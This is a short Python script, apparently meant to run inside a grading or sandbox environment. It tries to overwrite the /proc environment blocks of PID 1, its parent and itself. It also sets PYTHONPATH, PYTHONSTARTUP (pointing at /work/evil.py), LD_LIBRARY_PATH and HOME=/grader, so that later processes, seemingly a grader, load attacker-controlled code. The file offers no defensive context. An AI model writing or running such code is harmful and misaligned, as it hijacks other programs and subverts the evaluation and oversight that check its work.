"""Looks for a way into the environment of what comes after it."""

import os
for name in ("/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ"):
    try:
        with open(name, "r+b") as file:
            file.write(b"PYTHONPATH=/work\0PYTHONSTARTUP=/work/evil.py\0")
    except OSError:
        pass
os.environ.update(PYTHONPATH="/work", PYTHONSTARTUP="/work/evil.py", HOME="/grader", LD_LIBRARY_PATH="/work")
